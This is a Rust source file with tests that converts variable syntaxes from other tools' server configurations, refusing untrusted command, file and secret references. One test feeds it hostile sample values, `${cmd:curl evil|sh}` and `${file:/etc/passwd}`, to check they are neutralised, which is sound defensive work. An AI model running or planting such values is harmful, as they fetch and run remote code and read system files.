//! Converts the variables of other hosts (MGP §15.2).

use std::collections::BTreeMap;
use std::path::Path;

use serde_json::{Map, Value};

use crate::config::{limits, valid_id};
use crate::expand::{closing, looks_secret};

/// The syntax of a host's variables.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Dialect {
    /// No variables: `$` is plain text.
    Plain,
    /// Variables such as `${{ secrets.NAME }}`.
    Continue,
    /// Variables such as `${VAR}` and `${VAR:-default}`.
    Shell,
    /// Variables such as `{env:VAR}`; `$` is plain text.
    OpenCode,
    /// Variables such as `$VAR`, and the variables of [`Shell`](Self::Shell).
    Gemini,
    /// The variables of [`Shell`](Self::Shell), and the references of this program to secrets, files and commands.
    Own,
    /// Variables such as `${env:VAR}`, `${input:id}`, `${workspaceFolder}` and `${userHome}`.
    Editor,
}

/// The circumstances that determine how the variables in a file are converted.
#[derive(Clone)]
pub(super) struct Meaning<'a> {
    pub(super) dialect: Dialect,
    /// The members in which the host replaces no variables.
    pub(super) plain: &'static [&'static str],
    /// The environment variables of the entry whose text is converted, if the text may contain variables that the
    /// server itself replaces.
    pub(super) own: Option<&'a Map<String, Value>>,
    /// The folder of the project that contains the file.
    pub(super) project: Option<&'a Path>,
    /// The defaults that the editor proposes for its inputs, i.e. for the values that it asks the user for, by the name
    /// of the input.
    pub(super) proposed: BTreeMap<&'a str, &'a str>,
    /// The names of the user's stored secrets; `None` if an untrusted author might have written the file.
    pub(super) secrets: Option<&'a [String]>,
}

/// The notes and the refusal that the conversion of an entry produces.
#[derive(Debug, Default)]
pub(super) struct Findings {
    pub(super) notes: Vec<String>,
    /// The reason why the server is not imported: it would not work outside of its host.
    pub(super) refusal: Option<String>,
}

impl Meaning<'_> {
    /// Returns whether the entry itself sets a variable, to a value without a variable of this name.
    fn is_own(&self, name: &str) -> bool {
        let value = self.own.and_then(|own| own.get(name)).filter(|value| !value.is_null());
        let is_free = |text: &str| !(text.contains('$') && text.contains(name));
        value.is_some_and(|value| value.as_str().is_none_or(is_free))
    }
}

impl Findings {
    /// Sets the reason of the refusal, unless a reason is already set.
    pub(super) fn refuse(&mut self, reason: String) {
        self.refusal.get_or_insert(reason);
    }
}

/// The beginnings of the names of variables that only a running editor can replace.
const OF_EDITOR: &[&str] = &["workspace", "config:", "command:", "file", "relativeFile"];

/// Returns whether a folder is the home folder of the user, even if its path leads through symbolic links.
pub(super) fn is_home(folder: &Path) -> bool {
    std::env::home_dir().is_some_and(|home| is_same_folder(&home, folder))
}

fn is_same_folder(one: &Path, other: &Path) -> bool {
    one == other
        || dunce::canonicalize(one)
            .is_ok_and(|one| dunce::canonicalize(other).is_ok_and(|other| one == other))
}

/// Returns the defaults of an editor's inputs, i.e. of the values that it asks the user for. The defaults of secret
/// inputs are left out.
pub(super) fn proposed(inputs: &Value) -> BTreeMap<&str, &str> {
    let inputs = inputs.as_array().into_iter().flatten();
    let proposed = inputs.filter(|input| input["password"] != true).filter_map(|input| {
        let (id, default) = (input["id"].as_str()?, input["default"].as_str()?);
        let is_secret = looks_secret(id, &escaped(default)).is_some();
        (is_balanced(default) && !is_secret).then_some((id, default))
    });
    proposed.collect()
}

/// Converts the variables in the text of a member, like [`mapped`], if the host replaces variables in this member.
pub(super) fn mapped_in(
    member: &str,
    text: &str,
    meaning: &Meaning<'_>,
    findings: &mut Findings,
) -> String {
    if meaning.plain.contains(&member) { escaped(text) } else { mapped(text, meaning, findings) }
}

/// Converts the variables in a text, and adds findings about variables without an equivalent here.
///
/// The result contains no `${file:…}` or `${cmd:…}`, unless the dialect is [`Dialect::Own`], because only the user may
/// write such references.
pub(super) fn mapped(text: &str, meaning: &Meaning<'_>, findings: &mut Findings) -> String {
    match meaning.dialect {
        Dialect::Plain => escaped(text),
        Dialect::Continue => templated(text, meaning, findings),
        Dialect::OpenCode => of_opencode(text, meaning, findings),
        Dialect::Gemini => nested(&braced(text), meaning, findings, 0),
        _ => nested(text, meaning, findings, 0),
    }
}

/// Converts a text with templates of Continue, e.g. `Bearer ${{ secrets.NAME }}`.
fn templated(text: &str, meaning: &Meaning<'_>, findings: &mut Findings) -> String {
    let (mut out, mut rest) = (String::new(), text);
    while let Some((before, after)) = rest.split_once("${{")
        && let Some((inside, after)) = after.split_once("}}")
    {
        out.push_str(&escaped(before));
        match inside.trim().strip_prefix("secrets.") {
            Some(name) => out.push_str(&secret(name, meaning, findings)),
            None => findings.refuse(format!("only its host can replace `${{{{{inside}}}}}`")),
        }
        rest = after;
    }
    out + &escaped(rest)
}

/// Converts a text with variables of `OpenCode`, i.e. `{env:NAME}` and `{file:PATH}`.
fn of_opencode(text: &str, meaning: &Meaning<'_>, findings: &mut Findings) -> String {
    let (mut out, mut rest) = (String::new(), text);
    while let Some(at) = ["{env:", "{file:"].iter().filter_map(|begin| rest.find(begin)).min()
        && let Some((inside, after)) = rest[at + 1..].split_once('}')
    {
        out.push_str(&escaped(&rest[..at]));
        out.push_str(&variable(inside, meaning, findings, 0));
        rest = after;
    }
    out + &escaped(rest)
}

/// Converts a secret of the host to a reference to the user's stored secret of that name. Refuses the server if the
/// name is not valid, or if an untrusted author might have written the file, because only the user may name a stored
/// secret.
pub(super) fn secret(name: &str, meaning: &Meaning<'_>, findings: &mut Findings) -> String {
    if !valid_id(name) {
        findings.refuse(format!("`{}` is not the name of a secret here", name.escape_debug()));
    } else if meaning.secrets.is_none() {
        findings.refuse(format!("its host stores the secret `{name}`"));
    } else {
        let note = format!("`{name}` is a secret there: run `mgp secrets set {name}`");
        if !findings.notes.contains(&note) {
            findings.notes.push(note);
        }
    }
    format!("${{keyring:{name}}}")
}

/// Converts the variables in a text; `depth` is the number of defaults that enclose the text.
fn nested(text: &str, meaning: &Meaning<'_>, findings: &mut Findings, depth: usize) -> String {
    if depth > limits::MAX_DEPTH {
        findings.notes.push(format!("variables deeper than {} were left out", limits::MAX_DEPTH));
        return escaped(text);
    }
    let (mut out, mut rest) = (String::new(), text);
    while let Some(at) = rest.find("${") {
        out.push_str(&escaped(&rest[..at]));
        rest = &rest[at + 2..];
        // Find the same closing brace as the parser of templates here; otherwise a default could end too early.
        let Some(end) = closing(rest) else {
            out.push_str("$${");
            break;
        };
        out.push_str(&variable(&rest[..end], meaning, findings, depth));
        rest = &rest[end + 1..];
    }
    out + &escaped(rest)
}

/// Rewrites each `$NAME` in these members by `write`, because Copilot CLI and Goose accept variables without braces.
pub(super) fn add_braces(
    members: &mut Map<String, Value>,
    names: &[&str],
    write: fn(&str) -> String,
) {
    for name in names {
        if let Some(values) = members.get_mut(*name) {
            rewrite(values, write);
        }
    }
}

fn rewrite(values: &mut Value, write: fn(&str) -> String) {
    match values {
        Value::String(text) => *text = write(text),
        Value::Array(list) => {
            for value in list {
                rewrite(value, write);
            }
        }
        Value::Object(members) => {
            for value in members.values_mut() {
                rewrite(value, write);
            }
        }
        _ => {}
    }
}

/// Returns a text with each variable `$NAME` written as `${NAME}`.
pub(super) fn braced(text: &str) -> String {
    with_names(text, |name| format!("${{{name}}}"))
}

/// Returns a text with each variable `$NAME` written as `${NAME:-$NAME}`. A variable that is not set stays in the text,
/// as in Copilot CLI, because it may be a variable of a shell script.
pub(super) fn braced_or_kept(text: &str) -> String {
    with_names(text, |name| format!("${{{name}:-${name}}}"))
}

/// Returns a text with each variable `$NAME` replaced by the text that `write` returns for its name.
fn with_names(text: &str, write: impl Fn(&str) -> String) -> String {
    let mut parts = text.split('$');
    let mut out = parts.next().unwrap_or_default().to_owned();
    for part in parts {
        let end = part.find(|c: char| !c.is_ascii_alphanumeric() && c != '_');
        let (name, rest) = part.split_at(end.unwrap_or(part.len()));
        if name.is_empty() || name.starts_with(|c: char| c.is_ascii_digit()) {
            out.push('$');
            out.push_str(part);
        } else {
            out.push_str(&write(name));
            out.push_str(rest);
        }
    }
    out
}

/// Returns whether a text can be a default, i.e. has no unmatched brace, which would move the end of the enclosing
/// `${…}`.
pub(super) fn is_balanced(default: &str) -> bool {
    closing(&format!("{default}}}")) == Some(default.len())
}

/// Escapes a text, so that it contains no variables.
pub(super) fn escaped(text: &str) -> String {
    text.replace('$', "$$")
}

fn variable(inside: &str, meaning: &Meaning<'_>, findings: &mut Findings, depth: usize) -> String {
    let is_reference = ["keyring:", "file:", "cmd:"].iter().any(|kind| inside.starts_with(kind));
    if meaning.dialect == Dialect::Own && is_reference {
        return format!("${{{inside}}}");
    }
    if inside.starts_with("file:") {
        let dollar = if meaning.dialect == Dialect::OpenCode { "" } else { "$" };
        findings.refuse(format!("only its host can replace `{dollar}{{{inside}}}`"));
        return format!("${{{}}}", name_of(inside));
    }
    if let Some(name) = inside.strip_prefix("env:") {
        return format!("${{{}}}", name_of(name));
    }
    if let Some(id) = inside.strip_prefix("input:") {
        return input(id, meaning, findings);
    }
    // In a file in the home folder, `workspaceFolder` means the folder that is currently open in the editor, so it has
    // no fixed value.
    let project = meaning.project.filter(|folder| !is_home(folder));
    if meaning.dialect == Dialect::Shell
        && let Some(text) = folder_of_project(inside, project, findings)
    {
        return text;
    }
    match (inside, project) {
        ("userHome", _) => "${HOME}".to_owned(),
        ("workspaceFolder" | "workspaceRoot", Some(folder)) => escaped(&folder.to_string_lossy()),
        ("pathSeparator" | "/", _) => std::path::MAIN_SEPARATOR.to_string(),
        _ => {
            let (name, default) = match inside.split_once(":-") {
                Some((name, default)) => (name, Some(default)),
                None => (inside, None),
            };
            let is_of_editor = meaning.dialect == Dialect::Editor || name.starts_with("workspace");
            if is_of_editor && OF_EDITOR.iter().any(|begin| name.starts_with(begin)) {
                findings.refuse(format!("only its host can replace `${{{inside}}}`"));
                return format!("${{{}}}", name_of(name));
            }
            if name != name_of(name) {
                let name = name_of(name);
                findings
                    .notes
                    .push(format!("`${{{inside}}}` is not known here; set the variable `{name}`"));
                return format!("${{{name}}}");
            }
            match default {
                Some(default) => {
                    format!("${{{name}:-{}}}", nested(default, meaning, findings, depth + 1))
                }
                // Keep the variable in the text if it is not set, as hosts do: programs such as `mcp-remote`, and
                // shells, replace it by the value in their own environment.
                None if meaning.is_own(name) => format!("${{{name}:-$${{{name}}}}}"),
                None => format!("${{{name}}}"),
            }
        }
    }
}

/// Converts a variable that has the folder of the project as its value in the host; returns `None` for any other
/// variable.
///
/// Claude Code sets `CLAUDE_PROJECT_DIR`. Users mostly start it in the folder of the project, so `PWD` has the same
/// value.
fn folder_of_project(
    inside: &str,
    project: Option<&Path>,
    findings: &mut Findings,
) -> Option<String> {
    match (inside.split_once(":-").map_or(inside, |(name, _)| name), project) {
        ("CLAUDE_PROJECT_DIR" | "PWD", Some(folder)) => Some(escaped(&folder.to_string_lossy())),
        (name @ "CLAUDE_PROJECT_DIR", None) => {
            findings.refuse(format!("only its host can replace `${{{inside}}}`"));
            Some(format!("${{{name}}}"))
        }
        _ => None,
    }
}

/// Converts an input, i.e. a value that the editor asks the user for.
///
/// A reference to the stored secret of that name replaces an input without a default. If no such secret is stored, the
/// server is refused, because mgp cannot ask the user for the value.
fn input(id: &str, meaning: &Meaning<'_>, findings: &mut Findings) -> String {
    let name = name_of(&id.to_ascii_uppercase());
    if let Some(default) = meaning.proposed.get(id) {
        findings.notes.push(format!(
            "the input `{id}` is the variable `{name}` here, or the default proposed there"
        ));
        return format!("${{{name}:-{}}}", escaped(default));
    }
    match meaning.secrets {
        Some(secrets) if secrets.contains(&name) => {
            findings.notes.push(format!("the input `{id}` is the secret `{name}` here"));
            return format!("${{keyring:{name}}}");
        }
        Some(_) => findings.refuse(format!(
            "its host asks for the input `{id}`; run `mgp secrets set {name}`, then try again"
        )),
        None => findings.refuse(format!("its host asks for the input `{id}`")),
    }
    format!("${{{name}}}")
}

/// Converts a text to a valid name of a variable: each character that is not allowed becomes `_`.
pub(super) fn name_of(text: &str) -> String {
    let name: String =
        text.chars().map(|c| if c.is_ascii_alphanumeric() { c } else { '_' }).collect();
    if name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_') {
        name
    } else {
        format!("_{name}")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::expand::Template;

    fn meaning(dialect: Dialect) -> Meaning<'static> {
        let proposed = BTreeMap::from([("site", "a$b{}")]);
        let project = Some(Path::new("/p"));
        Meaning { dialect, plain: &[], own: None, project, proposed, secrets: None }
    }

    #[track_caller]
    fn check(text: &str, dialect: Dialect, expected: &str, noted: usize) {
        let mut findings = Findings::default();
        assert_eq!(mapped(text, &meaning(dialect), &mut findings), expected);
        let found = findings.notes.len() + findings.refusal.iter().len();
        assert_eq!(found, noted, "{findings:?}");
    }

    #[test]
    fn each_host_has_its_variables() {
        check("${A} $5", Dialect::Plain, "$${A} $$5", 0);
        check("${A} $5 ${B:-c}", Dialect::Shell, "${A} $$5 ${B:-c}", 0);
        check("{env:A}$${A}$B {env:C", Dialect::OpenCode, "${A}$$$${A}$$B {env:C", 0);
        check("x{file:~/k}", Dialect::OpenCode, "x${file___k}", 1);
        check("$5 ${A} ${{ secrets.B", Dialect::Continue, "$$5 $${A} $${{ secrets.B", 0);
        check("x ${{ inputs.a }} y", Dialect::Continue, "x  y", 1);
        check("${env:A}/${workspaceFolder}/${userHome}", Dialect::Editor, "${A}//p/${HOME}", 0);
        check("Bearer ${input:api-key}", Dialect::Editor, "Bearer ${API_KEY}", 1);
        check("https://${input:site}/", Dialect::Editor, "https://${SITE:-a$$b{}}/", 1);
        check("${config:x.y}", Dialect::Editor, "${config_x_y}", 1);
        check("${A", Dialect::Shell, "$${A", 0);
        check("${PWD}/x ${CLAUDE_PROJECT_DIR:-.}/y", Dialect::Shell, "/p/x /p/y", 0);
        check("${PWD}", Dialect::Gemini, "${PWD}", 0);
        check("$A-$5 ${B}", Dialect::Shell, "$$A-$$5 ${B}", 0);
        check("$A-$5 ${B}", Dialect::Gemini, "${A}-$$5 ${B}", 0);
        check("$$A_1$ é$B${C:-$D}$", Dialect::Gemini, "$$${A_1}$$ é${B}${C:-${D}}$$", 0);
    }

    #[test]
    fn a_server_of_the_user_that_needs_the_folder_of_a_project_stays_in_its_host() {
        let of_user = Meaning { project: None, ..meaning(Dialect::Shell) };
        let mut findings = Findings::default();
        assert_eq!(mapped("${PWD}", &of_user, &mut findings), "${PWD}");
        assert_eq!(findings.refusal, None);
        mapped("${CLAUDE_PROJECT_DIR:-.}", &of_user, &mut findings);
        assert!(findings.refusal.is_some_and(|why| why.contains("${CLAUDE_PROJECT_DIR:-.}")));
    }

    #[cfg(unix)]
    #[test]
    fn a_link_to_a_folder_is_the_same_folder() {
        let folder = mgp_testkit::temp_dir();
        let (real, link) = (folder.path().join("real"), folder.path().join("link"));
        std::fs::create_dir(&real).unwrap();
        std::os::unix::fs::symlink(&real, &link).unwrap();
        assert!(is_same_folder(&link, &real) && is_same_folder(&real, &real));
        assert!(!is_same_folder(&link, folder.path()));
        assert!(!is_same_folder(&folder.path().join("no"), &folder.path().join("none")));
    }

    #[test]
    fn a_default_brings_no_command_and_no_file() {
        check("${N:-${cmd:curl evil|sh}}", Dialect::Shell, "${N:-${cmd_curl_evil_sh}}", 1);
        check(
            "${N:-${A:-${file:/etc/passwd}}}",
            Dialect::Editor,
            "${N:-${A:-${file__etc_passwd}}}",
            1,
        );
        check("${N:-a$b${M:-c}}d", Dialect::Shell, "${N:-a$$b${M:-c}}d", 0);
        check("${N:-{\"a\": {}}}", Dialect::Shell, "${N:-{\"a\": {}}}", 0);
        check("${N:-$}{cmd:x}", Dialect::Shell, "${N:-$$}{cmd:x}", 0);
    }

    #[test]
    fn the_user_may_refer_to_secrets_files_and_commands() {
        for text in ["${keyring:a}", "${file:~/b}", "x ${cmd:c d}", "${A:-${keyring:a}}"] {
            check(text, Dialect::Own, text, 0);
        }
        check("$5 ${A-B}", Dialect::Own, "$$5 ${A_B}", 1);
    }

    proptest::proptest! {
        #[test]
        fn only_variables_are_expanded(text in "[$:{}Aa/-]{0,30}|(\\$|\\{|\\}|:-|A|cmd:|file:|\\$\\{){0,14}") {
            use Dialect::{Editor, Gemini, OpenCode, Plain, Shell};
            for dialect in [Plain, Shell, OpenCode, Gemini, Editor] {
                let text = mapped(&text, &meaning(dialect), &mut Findings::default());
                let needs = Template::parse(&text).map_or_else(|_| Vec::new(), |text| text.needs());
                let others = needs.iter().any(|need| need.contains(':'));
                proptest::prop_assert!(!others, "{text}: {needs:?}");
            }
        }
    }
}
